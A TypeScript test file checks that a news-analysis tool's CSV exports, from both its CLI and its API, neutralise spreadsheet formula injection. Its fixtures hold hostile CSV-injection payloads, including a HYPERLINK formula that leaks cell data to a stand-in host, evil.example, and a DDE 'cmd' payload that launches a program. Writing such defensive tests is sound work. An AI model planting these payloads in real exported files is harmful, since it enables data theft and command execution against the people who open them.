// CSV injection (CWE-1236): hostile titles and quotes exported as CSV, by the CLI and by GET /api/export, are never formulas.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../src/server/index.js';
import { openStore } from '../../src/store/open.js';
import { standpoint, tempDir } from '../cli.js';

/** What a spreadsheet reads as a formula: a cell starting with one of these. */
const FORMULA = /^[=+\-@\t\r]/;
const TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '=1+2', '\t=1', '\r=1'];
const TEXT = ' Portugal on Monday rejected the NATO monitoring mission in the Baltic Sea. "=1+2 is not a plan we accept," Portuguese Foreign'
  + ' Minister Rui Carvalho said. "-2+3 is what it costs us," Carvalho added. "@SUM(A1) of the troops is too much," Carvalho said.'
  + ' Latvia supports the monitoring mission, Latvian Defence Minister Ilze Berzina said.';

/** The rows of a CSV text (RFC 4180: records ended by CRLF, quoted cells, "" for a quote, line breaks inside quotes). */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === '\r' && csv[i + 1] === '\n') continue; // a record ends with CRLF (RFC 4180)
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

const tmp = tempDir('standpoint-csv-');
const db = path.join(tmp.dir, 'store.db');

beforeAll(() => {
  const lines = TITLES.map((title, i) => JSON.stringify({ id: `hostile-${i}`, date: `2025-05-0${1 + i}`, title, text: `${TEXT} Report ${i}: ${'word '.repeat(i * 40)}` }));
  const out = standpoint(['ingest', '--db', db, '--json', tmp.put('hostile.jsonl', `${lines.join('\n')}\n`)]);
  expect(out.status, out.stderr).toBe(0);
});
afterAll(() => tmp.remove());

/** Every cell of every exported CSV: none a formula; the hostile ones kept, after the single quote that neutralises them. */
function expectInert(csv: string, hostile: string[]): void {
  const cells = parseCsv(csv).flat();
  expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
  for (const h of hostile) expect(cells, JSON.stringify(h)).toContain(`'${h}`);
}

describe('CSV export of hostile titles and quotes', () => {
  it('standpoint export --format csv neutralises them', () => {
    const articles = standpoint(['export', '--db', db, '--what', 'articles', '--format', 'csv']);
    expect(articles.status, articles.stderr).toBe(0);
    expectInert(articles.stdout, TITLES.filter((t) => t.trim() === t));
    const quotes = standpoint(['export', '--db', db, '--what', 'quotes', '--format', 'csv']);
    expectInert(quotes.stdout, ['=1+2 is not a plan we accept,', '-2+3 is what it costs us,', '@SUM(A1) of the troops is too much,']);
    for (const what of ['proposals', 'stances', 'observations', 'actors']) {
      const out = standpoint(['export', '--db', db, '--what', what, '--format', 'csv']);
      expect(out.status, out.stderr).toBe(0);
      expectInert(out.stdout, []);
    }
  });

  it('GET /api/export?format=csv neutralises them', async () => {
    const store = await openStore(db);
    try {
      const app = createApp({ store, token: 'csv-test-token', webRoot: fs.mkdtempSync(path.join(tmp.dir, 'web-')) });
      const res = await app.request('/api/export?what=articles&format=csv');
      expect(res.status).toBe(200);
      expectInert(await res.text(), TITLES.filter((t) => t.trim() === t));
      const quotes = await (await app.request('/api/export?what=quotes&format=csv')).text();
      expectInert(quotes, ['=1+2 is not a plan we accept,', '@SUM(A1) of the troops is too much,']);
    } finally {
      await store.close();
    }
  });
});
